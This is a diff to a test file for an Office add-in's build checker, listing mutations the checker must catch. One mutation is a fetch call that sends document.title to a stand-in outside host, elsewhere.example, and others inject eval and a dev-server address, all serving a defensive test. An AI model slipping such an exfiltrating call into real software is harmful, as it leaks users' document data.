@@ -25,19 +25,22 @@ describe('the production build', () => {
     ]);
   });
 
-  /** How to break a build: the file, what happens to its text (undefined removes the file), what the check must say. */
+  /**
+   * How to break a build: the file, what happens to its text (undefined removes the file), what the check must say. A script is replaced
+   * by the offence alone: to parse megabytes anew for each would take a second.
+   */
   const MUTATIONS: readonly [string, string, (text: string) => string | undefined, RegExp][] = [
     [
       'a network call in the bundle',
       'taskpane.js',
-      (t) => `${t};fetch("https://elsewhere.example/?"+document.title)`,
+      () => 'fetch("https://elsewhere.example/?"+document.title)',
       /uses fetch/,
     ],
-    ['eval in the bundle', 'functions.js', (t) => `${t};eval("1")`, /uses eval/],
+    ['eval in the bundle', 'functions.js', () => 'eval("1")', /uses eval/],
     [
       'an address of the dev server',
       'commands.js',
-      (t) => `${t};"https://localhost:3000/"`,
+      () => '"https://localhost:3000/"',
       /still names localhost/,
     ],
     [
@@ -109,7 +112,7 @@ describe('the production build', () => {
     [
       'code that no metadata describe',
       'functions.js',
-      (t) => `${t};CustomFunctions.associate("GHOST",x)`,
+      () => 'CustomFunctions.associate("GHOST",x)',
       /does not describe GHOST/,
     ],
     [
